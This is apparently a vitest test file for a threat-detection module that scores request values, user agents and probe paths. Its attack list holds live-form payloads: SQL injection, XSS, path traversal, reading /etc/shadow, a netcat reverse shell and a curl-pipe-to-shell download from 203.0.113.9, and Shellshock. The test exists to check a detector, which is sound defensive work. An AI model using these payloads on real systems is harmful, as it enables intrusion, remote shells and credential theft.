import { describe, expect, it } from 'vitest';
import { inspectPath, inspectUserAgent, scoreValues } from './detectors.js';

const score = (s: string) => scoreValues([s]).score;
const category = (s: string) => scoreValues([s]).findings[0]?.category;

describe('threat detectors', () => {
  it('scores attacks of every kind at or above the block threshold, encoded or not', () => {
    const attacks: [string, string][] = [
      ["' OR '1'='1' --", 'sqli'],
      ['1 UNION ALL SELECT username, password FROM users', 'sqli'],
      ["1; WAITFOR DELAY '0:0:5'--", 'sqli'],
      ['%27%20or%20sleep(5)%23', 'sqli'],
      ['<script>alert(1)</script>', 'xss'],
      ['<img src=x onerror=alert(document.cookie)>', 'xss'],
      ['&#x3C;svg/onload=alert(1)&#x3E;', 'xss'],
      ['jav&#x09;ascript:alert(1)', 'xss'],
      ['../../../../etc/passwd', 'traversal'],
      ['%2e%2e%2f%2e%2e%2fwindows%2fwin.ini', 'traversal'],
      ['; cat /etc/shadow', 'traversal'],
      ['| nc -e /bin/sh 203.0.113.9 4444', 'cmdi'],
      ['$(curl http://203.0.113.9/x.sh | sh)', 'cmdi'],
      ['() { :;}; /bin/bash -c id', 'cmdi'],
    ];
    for (const [a, c] of attacks) {
      expect(score(a), a).toBeGreaterThanOrEqual(0.9);
      expect(
        scoreValues([a]).findings.map((f) => f.category),
        a,
      ).toContain(c);
    }
    // Base64-wrapped markup is unwrapped.
    expect(category(Buffer.from('<script>alert(1)</script>').toString('base64'))).toBe('xss');
  });

  it('lets operators’ free text through, in any script, with quotes, symbols and keywords', () => {
    for (const text of [
      "O'Brien's pump: pressure < 2 bar & flow > 10 m³/h; see ticket #4711",
      'Select pump 3 from the list, or drop the pressure by 1 bar and update the log',
      'Druckabfall in Zone Nord (50 % offen) — bitte prüfen!',
      'محطة الضخ الشمالية: تسرب بالقرب من المدرسة',
      '北区泵站：压力下降，请检查阀门 (DN150)',
      'if a<b then the sensor is wired the wrong way round; 5 < x < 10 is normal',
      'quality is "good" and value > 0',
      "Set mode to 'eco' or 2",
      '{"sensor":"dma-h1/flow","ts":"2026-11-24T12:00:00Z","value":101.5}',
      'pressure,site=riverside,zone=north value=3.92 1795521600000000000',
      'Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0 Safari/537.36',
      'Price: $(12.50) per unit',
    ]) {
      expect(score(text), text).toBeLessThan(0.8);
    }
  });

  it('knows scanner user agents and probe paths', () => {
    expect(inspectUserAgent('sqlmap/1.8#stable (https://sqlmap.org)')?.score).toBe(0.9);
    expect(inspectUserAgent('Telegraf/1.32.2 Go/1.23.3')).toBeNull();
    expect(inspectPath('/.env')?.category).toBe('scanner');
    expect(inspectPath('/wp-admin/setup.php')?.category).toBe('scanner');
    expect(inspectPath('/api/v1/sensors')).toBeNull();
  });
});
